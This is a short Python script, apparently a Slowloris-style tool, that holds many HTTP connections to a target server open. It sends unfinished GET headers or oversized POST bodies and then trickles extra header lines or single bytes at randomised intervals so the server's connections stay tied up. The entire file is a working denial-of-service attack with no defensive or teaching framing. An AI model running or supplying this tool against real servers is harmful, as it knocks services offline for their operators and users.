"""Holds connections to a web server with unfinished requests: `slow.py SERVER CONNECTIONS INTERVAL SECONDS get|post`."""
import random, socket, sys, time

server, count, interval, seconds, how = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
until = time.time() + seconds
held = []

def one():
    wire = socket.create_connection((server, 80), 3)
    if how == "post":
        wire.sendall(b"POST /post.up HTTP/1.1\r\nHost: www\r\nContent-Length: 100000\r\n\r\n")
    else:
        wire.sendall(b"GET /?%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n" % random.randint(0, 9999))
    return wire

while time.time() < until:
    for _ in range(count - len(held)):
        try:
            held.append(one())
        except OSError:
            break
        time.sleep(0.01)
    time.sleep(interval * random.uniform(0.8, 1.2))
    for wire in list(held):
        try:
            wire.sendall(b"x" if how == "post" else b"X-a: %d\r\n" % random.randint(1, 5000))
        except OSError:
            held.remove(wire)
